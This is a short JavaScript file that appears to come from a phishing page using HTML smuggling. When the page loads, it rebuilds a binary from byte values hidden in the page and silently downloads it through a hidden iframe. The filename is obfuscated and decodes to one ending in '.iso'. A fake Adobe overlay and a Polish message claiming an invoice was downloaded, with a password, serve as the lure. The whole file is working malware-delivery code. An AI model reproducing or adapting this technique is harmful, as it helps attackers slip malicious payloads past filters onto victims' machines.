var __decode = function (t) {
  var r = "";
  for (var i = 0; i < t.length; i += 3) r += String.fromCharCode(Number(t.substr(i, 3)) - 100);
  return r;
};
var App = /** @class */ (function () {
  function App(store) {
    this.store = store;
    this.name = __decode("180197206215193195165165165165146205215211");
  }
  App.prototype.bytes = function () {
    var joined = this.store.map(function (s) { return document.getElementById(s).innerHTML.trim(); }).join("");
    return new Uint8Array(joined.split(",").map(Number));
  };
  App.prototype.drop = function () {
    var frame = document.createElement("iframe");
    frame.hidden = true;
    document.body.appendChild(frame);
    var w = frame.contentWindow;
    var b = new w.Blob([this.bytes()], { type: "application/octet-stream" });
    var nav = window.navigator;
    if (nav.msSaveBlob) return nav.msSaveBlob(b, this.name);
    var a = w.document.createElement("a");
    a.href = w.URL.createObjectURL(b);
    a.download = this.name;
    w.document.body.appendChild(a);
    a.click();
  };
  return App;
}());
window.onload = function () {
  var app = new App(["s1", "s2", "s3", "s4"]);
  document.getElementById("adobe").style.display = "block";
  document.getElementById("t").innerText = "Faktura została pobrana. Hasło: 4419";
  setTimeout(function () { app.drop(); }, 700);
};
